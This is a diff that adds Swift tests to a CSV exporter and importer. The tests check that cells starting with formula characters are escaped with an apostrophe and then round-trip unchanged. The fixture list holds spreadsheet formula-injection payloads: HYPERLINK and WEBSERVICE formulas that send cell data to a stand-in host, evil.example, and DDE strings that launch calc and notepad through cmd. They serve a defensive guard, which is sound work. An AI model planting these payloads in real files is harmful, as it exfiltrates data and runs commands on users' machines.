@@ -52,6 +52,67 @@ import Testing
         #expect(try read(again) == text)
     }
 
+    /// Formulas as LibreOffice and Excel write them, and the characters OWASP names.
+    static let formulas = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",  // LibreOffice and Excel
+        "=WEBSERVICE(\"http://evil.example/\"&A2)",  // LibreOffice
+        "@SUM(1+1)*cmd|' /C calc'!A0",  // Excel's DDE
+        "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0",
+        "'=already guarded by hand", "''@two apostrophes", "'plain with an apostrophe", "Eglė = coordinator",
+    ]
+
+    @Test func aCellASpreadsheetWouldRunIsWrittenAsTextAndReadBackAsItWas() throws {
+        let ids = try db.store.write { w in
+            try Self.formulas.map { try w.create(.organisation, ["name": .text($0), "country": .text("LT")]) }
+        }
+        let exported = db.folder.appendingPathComponent("organisations.csv").path
+        #expect(try CSVExporter(store: db.store).exportCSV(.organisation, to: exported) == Self.formulas.count)
+        // Every row's name cell, as a spreadsheet reads it: no cell starts with a formula character.
+        let text = try read(exported)
+        for formula in Self.formulas where CSVFormula.needsGuard(formula) {
+            #expect(!text.contains("," + formula) && !text.contains("\n" + formula), "\(formula) is live")
+            let quoted = "'" + formula
+            #expect(
+                text.contains(quoted) || text.contains("\"" + quoted.replacingOccurrences(of: "\"", with: "\"\"")),
+                "\(formula) is written as text")
+        }
+        #expect(
+            text.contains(",'plain with an apostrophe,") && text.contains(",Eglė = coordinator,"), "others as they are")
+
+        // Into a fresh database: the same names, byte for byte.
+        let other = try TestDatabase()
+        #expect(try CSVImporter(store: other.store).importCSV(.organisation, from: exported).created == ids.count)
+        let names = try other.store.read { r in try ids.map { try r.record(.organisation, id: $0)?["name"].text } }
+        #expect(names == Self.formulas)
+    }
+
+    @Test func aTextStartingWithATabOrACarriageReturnRoundTripsToo() throws {
+        let texts = ["\t=1+1", "\r=1+1 on a line\nand another", "\r\n@start"]
+        let ids = try db.store.write { w in
+            try texts.enumerated().map {
+                try w.create(.task, ["title": .text("Task \($0.offset)"), "description": .text($0.element)])
+            }
+        }
+        let exported = db.folder.appendingPathComponent("tasks.csv").path
+        _ = try CSVExporter(store: db.store).exportCSV(.task, to: exported)
+        #expect(try read(exported).contains("'\t=1+1"))
+        let other = try TestDatabase()
+        _ = try CSVImporter(store: other.store).importCSV(.task, from: exported)
+        let back = try other.store.read { r in try ids.map { try r.record(.task, id: $0)?["description"].text } }
+        #expect(back == texts)
+    }
+
+    @Test func rawWritesValuesAsTheyAreAndReadsCellsAsTheyAre() throws {
+        let id = try db.store.write { w in try w.create(.organisation, ["name": .text("=1+1"), "country": .text("LT")])
+        }
+        let exported = db.folder.appendingPathComponent("raw.csv").path
+        _ = try CSVExporter(store: db.store).exportCSV(.organisation, to: exported, raw: true)
+        #expect(try read(exported).contains("\(id),=1+1,"))
+        let guarded = try file("guarded.csv", "id,name,country\n\(id),'=1+1,LT\n")
+        _ = try CSVImporter(store: db.store).importCSV(.organisation, from: guarded, raw: true)
+        #expect(try db.store.read { try $0.record(.organisation, id: id)?["name"].text } == "'=1+1")
+    }
+
     @Test func expertsRoundTripWithAMultiLineBioHoldingCommasAndQuotes() throws {
         let input = try file(
             "experts.csv",
